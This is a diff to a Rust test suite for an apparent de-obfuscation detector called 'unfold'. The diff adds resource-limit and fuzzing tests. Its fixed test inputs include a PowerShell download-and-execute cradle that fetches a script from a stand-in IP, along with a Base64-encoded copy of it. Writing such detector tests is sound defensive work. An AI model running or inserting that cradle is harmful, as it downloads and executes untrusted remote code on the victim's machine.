@@ -1,6 +1,6 @@
 //! What lies under wrappings: each made outside this program, with the standard library of another language.
 
-use palisade_text::unfold::{MAX_BYTES, MAX_DEPTH, MAX_LAYERS, is_wrapped, unfold};
+use palisade_text::unfold::{MAX_BYTES, MAX_DEPTH, MAX_LAYERS, fuzz, is_wrapped, unfold};
 
 const COMMAND: &str = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')";
 const ENCODED: &str = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMgAwADMALgAwAC4AMQAxADMALgA5AC8AYQAuAHAAcwAxACcAKQA=";
@@ -86,6 +86,10 @@ fn nothing_grows_without_end() {
         "'+'".repeat(500_000),
         "\"{0}\" -f 'x',".repeat(60_000),
         "65,".repeat(500_000),
+        "1".repeat(1 << 20),
+        format!("{} ", "7".repeat(130)).repeat(8_000),
+        format!("{GZIP} ").repeat(10_000),
+        format!("-bxor 9 {DEFLATE} ").repeat(10_000),
         "`a^b".repeat(300_000),
         format!("\u{fffd}{}", "é`".repeat(200_000)),
     ];
@@ -95,6 +99,24 @@ fn nothing_grows_without_end() {
         assert!(layers.iter().map(|l| l.text.len()).sum::<usize>() <= MAX_BYTES);
         assert!(layers.iter().all(|l| l.depth <= MAX_DEPTH));
     }
+}
+
+#[test]
+fn a_million_rows_of_one_value() {
+    let wrapped = format!("$x='{DEFLATE}'");
+    let layers = unfold(&wrapped);
+    assert!(!layers.is_empty());
+    // The pipeline asks of every row; what is cheap to ask must stay cheap, and what is found the same.
+    let plain = r"C:\Windows\System32\svchost.exe -k netsvcs -p -s Schedule";
+    for row in 0..1_000_000 {
+        assert!(unfold(plain).is_empty());
+        if row % 100 == 0 {
+            assert_eq!(unfold(&wrapped), layers);
+        }
+    }
+    // A million rows in one text: it is looked at as far as it may be long.
+    let layers = unfold(&format!("{wrapped}\n").repeat(1_000_000));
+    assert!(!layers.is_empty() && layers.len() <= MAX_LAYERS);
 }
 
 /// Bytes changed at random places (a fixed seed) never cause a panic and never break a limit.
@@ -119,8 +141,6 @@ fn damaged_texts() {
             let at = next() as usize % bytes.len();
             bytes[at] = next() as u8;
         }
-        let text = String::from_utf8_lossy(&bytes);
-        let layers = unfold(&text);
-        assert!(layers.len() <= MAX_LAYERS);
+        fuzz(&bytes);
     }
 }
